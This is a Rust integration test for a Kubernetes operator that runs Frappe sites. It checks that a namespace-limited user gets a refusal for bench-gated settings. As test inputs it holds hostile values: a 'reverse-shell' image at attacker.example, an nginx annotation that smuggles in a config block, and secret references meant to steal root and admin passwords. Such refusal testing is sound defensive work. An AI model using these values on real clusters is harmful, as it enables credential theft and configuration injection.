//! Settings of a site that need a permission of its bench: each is tried as a user who may only write FrappeSites and SiteBackups
//! in one namespace; the test checks the reported reason, and which setting of the bench allows it. The admission policies are
//! not installed here.

use frappe_crds::site::SitePhase;
use serde_json::{Value, json};

use crate::support::{World, inventory, kubectl};

/// Namespace of the user.
const TENANT: &str = "tenant";

/// The user, and a role with the permissions on sites and backups of the chart's role for `edit`.
pub(crate) fn siteonly(namespace: &str) -> String {
    format!(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {{name: siteonly, namespace: {namespace}}}\nrules:\n\
         - {{apiGroups: [vyogo.tech], resources: [frappesites, sitebackups], verbs: [get, list, create, update, patch, delete]}}\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: siteonly, namespace: {namespace}}}\n\
         roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: siteonly}}\n\
         subjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: siteonly}}]\n"
    )
}

/// A FrappeSite as JSON.
pub(crate) fn site_of(namespace: &str, name: &str, more: &Value) -> String {
    let mut spec = json!({"siteName": format!("{name}.{namespace}.example.com"), "benchRef": {"name": "bench"}});
    json_patch::merge(&mut spec, more);
    let metadata = json!({"name": name, "namespace": namespace});
    json!({"apiVersion": "vyogo.tech/v1alpha1", "kind": "FrappeSite", "metadata": metadata, "spec": spec}).to_string()
}

fn apply_as_user(world: &World, text: &str) {
    kubectl(&world.cluster, &["apply", "--as", "siteonly", "-f", "-"], text);
}

fn patch_bench(world: &World, spec: &Value) {
    let patch = json!({"spec": spec}).to_string();
    world.kubectl(&["patch", "frappebench", "bench", "-n", "platform", "--type", "merge", "-p", &patch]);
}

/// Withdraws all permissions in one write.
fn close_bench(world: &World) {
    let allowed = json!({"namespaces": {"from": "All"}, "siteConfigKeys": null, "databases": null, "routes": null, "backups": null});
    patch_bench(
        world,
        &json!({"allowedSites": allowed, "domainConfig": {"allowedSuffixes": ["tenant.example.com", "platform.example.com"]}}),
    );
}

/// A setting of a site in another namespace, the reason that rejects it, and the setting of its bench that allows it.
type Asked = (&'static str, Value, &'static str, Value);

#[rustfmt::skip]
fn of_databases_and_settings() -> Vec<Asked> {
    let dedicated = |more: Value| {
        let mut config = json!({"dbConfig": {"mode": "dedicated"}});
        json_patch::merge(&mut config, &json!({"dbConfig": more}));
        config
    };
    let databases = |more: Value| {
        let mut allowed = json!({"dedicated": true});
        json_patch::merge(&mut allowed, &more);
        json!({"allowedSites": {"databases": allowed}})
    };
    let keys = |key: &str| json!({"allowedSites": {"siteConfigKeys": [key]}});
    let refused = "DatabaseNotAllowed";
    let image = "attacker.example/reverse-shell:1";
    vec![
        ("code", json!({"siteConfig": {"extra_config": "cfg.evil.run"}}), "SiteConfigRefused", keys("extra_config")),
        ("infile", json!({"siteConfig": {"local_infile": 1}}), "SiteConfigRefused", keys("local_infile")),
        ("image", dedicated(json!({"image": image})), refused, databases(json!({"images": [image]}))),
        ("large", dedicated(json!({"storageSize": "50Ti"})), refused, databases(json!({"maxStorageSize": "50Ti"}))),
        ("busy", dedicated(json!({"resources": {"limits": {"cpu": "64"}}})), refused, databases(json!({"maxResources": {"cpu": "64"}}))),
        ("server", json!({"dbConfig": {"mariadbRef": {"name": "second"}}}), refused, databases(json!({"servers": ["second"]}))),
        // After the settings that are tried while it is allowed.
        ("own", dedicated(json!({})), refused, databases(json!({}))),
    ]
}

#[rustfmt::skip]
fn of_routes() -> Vec<Asked> {
    let routes = |more: Value| json!({"allowedSites": {"routes": more}});
    let gateway = json!({"httpRoute": {"enabled": true, "parentRefs": [{"name": "public", "namespace": "gateways"}]}});
    let annotated = json!({"ingress": {"annotations": {"cert-manager.io/issuer": "corporate"}}});
    let issuers = || routes(json!({"issuers": ["corporate"]}));
    let refused = "RouteNotAllowed";
    vec![
        ("host", json!({"domain": "login.bank.example"}), "HostNotAllowed",
            json!({"domainConfig": {"allowedSuffixes": ["tenant.example.com", "bank.example"]}})),
        ("class", json!({"ingress": {"className": "internal"}}), refused, routes(json!({"ingressClasses": ["internal"]}))),
        ("issuer", json!({"tls": {"enabled": true, "issuer": "corporate"}}), refused, issuers()),
        ("annotated", annotated, refused, issuers()),
        ("gateway", gateway, refused, routes(json!({"gateways": ["gateways/public"]}))),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_site_of_another_namespace_gets_only_what_its_bench_allows() {
    let world = World::start("say").await;
    world.with_bench("platform").await;
    let server = json!({"apiVersion": "k8s.mariadb.com/v1alpha1", "kind": "MariaDB", "spec": {},
                        "metadata": {"name": "second", "namespace": "platform"}});
    world.cluster.apply(&server.to_string()).unwrap();
    let tenant = format!("apiVersion: v1\nkind: Namespace\nmetadata: {{name: {TENANT}}}\n---\n{}", siteonly(TENANT));
    world.cluster.apply(&tenant).unwrap();
    patch_bench(&world, &json!({"dbConfig": {"mariadbRef": {"name": "shared"}}}));
    close_bench(&world);
    let before = inventory(&world, "platform");
    let foreign = json!({"benchRef": {"namespace": "platform"}});
    let asked = [of_databases_and_settings(), of_routes()].concat();
    for (name, spec, reason, opens) in &asked {
        let mut spec = spec.clone();
        json_patch::merge(&mut spec, &foreign);
        if opens["allowedSites"]["databases"].as_object().is_some_and(|it| it.len() > 1) && *name != "server" {
            patch_bench(&world, &json!({"allowedSites": {"databases": {"dedicated": true}}}));
        }
        apply_as_user(&world, &site_of(TENANT, name, &spec));
        println!("{name}: {reason}: {}", world.wait_for_site_reason(TENANT, name, reason).await);
        close_bench(&world);
    }
    assert_eq!(inventory(&world, "platform"), before, "an object was created for a rejected site");
    for (name, _, _, opens) in &asked {
        patch_bench(&world, opens);
        world.wait_for_site_phase(TENANT, name, SitePhase::Ready).await;
        close_bench(&world);
        let told = ["get", "fs", name, "-n", TENANT, "-o", "jsonpath={.status.phase}"];
        let stays = || async { (world.kubectl(&told) == "Ready").then_some(()) };
        world.until("the site stays available after the permission is withdrawn", 20, stays).await;
        println!("{name}: allowed by {opens}");
    }
    invalid_annotations(&world).await;
    backups_of_another_namespace(&world).await;
    secrets_stay_in_their_namespace(&world).await;
}

/// Invalid values of an annotation whose name is allowed.
async fn invalid_annotations(world: &World) {
    let value = json!({"ingress": {"annotations": {"nginx.ingress.kubernetes.io/proxy-buffer-size": "4k;\n}\nlocation /x {"}},
                       "benchRef": {"namespace": "platform"}});
    apply_as_user(world, &site_of(TENANT, "snippet", &value));
    println!("snippet: {}", world.wait_for_site_reason(TENANT, "snippet", "AnnotationRefused").await);
}

async fn wait_for_backup_reason(world: &World, namespace: &str, name: &str, reason: &str) {
    let path = [
        "get",
        "sitebackup",
        name,
        "-n",
        namespace,
        "-o",
        "jsonpath={.status.conditions[0].reason}: {.status.message}",
    ];
    let said = || async {
        let text = world.cluster.kubectl(&path, "").ok()?.out;
        text.starts_with(reason).then_some(text)
    };
    println!("{name}: {}", world.until(&format!("{name} has reason {reason}"), 60, said).await);
}

fn backup_of(namespace: &str, name: &str, site: &str, storage: &Value) -> String {
    json!({"apiVersion": "vyogo.tech/v1alpha1", "kind": "SiteBackup", "metadata": {"name": name, "namespace": namespace},
           "spec": {"siteRef": {"name": site}, "storage": storage}})
    .to_string()
}

/// Volumes and ServiceAccounts of the bench's namespace, and the default account of a Job.
async fn backups_of_another_namespace(world: &World) {
    let bucket = |more: Value| {
        let mut storage = json!({"s3": {"bucket": "backups"}});
        json_patch::merge(&mut storage, &more);
        storage
    };
    for (name, storage) in [
        ("volume", json!({"persistentVolumeClaim": {"claimName": "archive"}})),
        ("account", bucket(json!({"serviceAccountName": "bucket-writer"}))),
        ("keyless", bucket(json!({}))),
    ] {
        apply_as_user(world, &backup_of(TENANT, name, "host", &storage));
        wait_for_backup_reason(world, TENANT, name, "StorageRefused").await;
    }
    let listed = json!({"allowedSites": {"backups": {"serviceAccounts": ["bucket-writer"]}}});
    patch_bench(world, &listed);
    let jobs = || async {
        let jobs = world.kubectl(&[
            "get",
            "jobs",
            "-n",
            "platform",
            "-o",
            "jsonpath={.items[*].spec.template.spec.serviceAccountName}",
        ]);
        jobs.contains("bucket-writer").then_some(())
    };
    world.until("the Job runs with the account that the bench lists", 60, jobs).await;
    close_bench(world);
    // In the bench's namespace: volumes of a bench or a MariaDB may not be referenced.
    world.cluster.apply(&site_of("platform", "local", &json!({}))).unwrap();
    world.wait_for_site_phase("platform", "local", SitePhase::Ready).await;
    let other = "apiVersion: vyogo.tech/v1alpha1\nkind: FrappeBench\nmetadata: {name: prod, namespace: platform}\nspec: {frappeVersion: \"15\"}\n";
    world.cluster.apply(other).unwrap();
    for claim in ["bench-sites", "prod-sites", "data-prod-redis-queue-0", "storage-shared-0"] {
        let storage = json!({"persistentVolumeClaim": {"claimName": claim, "path": ".hosts"}});
        world.cluster.apply(&backup_of("platform", &format!("on-{claim}"), "local", &storage)).unwrap();
        wait_for_backup_reason(world, "platform", &format!("on-{claim}"), "StorageRefused").await;
    }
}

fn secret(namespace: &str, name: &str) -> String {
    json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, "namespace": namespace},
           "stringData": {"password": "p", "aws": "a", "tls": "t"}})
    .to_string()
}

/// A Secret is copied to another namespace only if its owner allows it, and then only the referenced keys; Secrets that an
/// operator created or that belong to a server's administrator are never read for a site.
async fn secrets_stay_in_their_namespace(world: &World) {
    world.cluster.apply(&secret(TENANT, "crown-jewels")).unwrap();
    let mail = json!({"siteConfigSecretRefs": {"mail_password": {"name": "crown-jewels", "key": "password"}},
                      "benchRef": {"namespace": "platform"}});
    apply_as_user(world, &site_of(TENANT, "reader", &mail));
    println!("reader: {}", world.wait_for_site_reason(TENANT, "reader", "SecretCopyRefused").await);
    let copies = || {
        world.kubectl(&[
            "get",
            "secrets",
            "-n",
            "platform",
            "-o",
            "jsonpath={range .items[*]}{.metadata.name} {.data}{\"\\n\"}{end}",
        ])
    };
    assert!(!copies().contains("aws"), "{}", copies());
    world.kubectl(&[
        "annotate",
        "secret",
        "crown-jewels",
        "-n",
        TENANT,
        "frappe.vyogo.tech/allowed-namespaces=platform",
    ]);
    world.wait_for_site_phase(TENANT, "reader", SitePhase::Ready).await;
    let copied = copies();
    let copied: Vec<&str> = copied.lines().filter(|it| it.starts_with("reader-") && it.contains("-copy-")).collect();
    assert!(
        copied.iter().any(|it| it.contains("password"))
            && !copied.iter().any(|it| it.contains("aws") || it.contains("tls")),
        "{copied:?}"
    );

    world.cluster.apply(&secret("platform", "shared-mariadb-root")).unwrap();
    world.cluster.apply(&siteonly("platform")).unwrap();
    let root = json!({"spec": {"rootPasswordSecretKeyRef": {"name": "shared-mariadb-root", "key": "password"}}});
    world.kubectl(&["patch", "mariadb", "shared", "-n", "platform", "--type", "merge", "-p", &root.to_string()]);
    for (name, more) in [
        (
            "thief-root",
            json!({"siteConfigSecretRefs": {"mail_password": {"name": "shared-mariadb-root", "key": "password"}}}),
        ),
        (
            "thief-entry",
            json!({"siteConfigSecretRefs": {"mail_password": {"name": "local-db-password", "key": "encryption-key"}}}),
        ),
        ("thief-admin", json!({"adminPasswordSecretRef": {"name": "local-admin-password"}})),
        (
            "thief-account",
            json!({"dbConfig": {"provider": "postgres", "host": "attacker.example",
                                 "connectionSecretRef": {"name": "local-db-password"}}}),
        ),
    ] {
        apply_as_user(world, &site_of("platform", name, &more));
        println!("{name}: {}", world.wait_for_site_reason("platform", name, "SecretRefused").await);
        let made = inventory(world, "platform");
        assert!(!made.iter().any(|line| line.contains(name)), "{made:?}");
    }
    let keys = json!({"s3": {"bucket": "backups", "credentialsSecretRef": {"name": "local-db-password"}}});
    apply_as_user(world, &backup_of("platform", "thief-keys", "local", &keys));
    wait_for_backup_reason(world, "platform", "thief-keys", "StorageRefused").await;
}
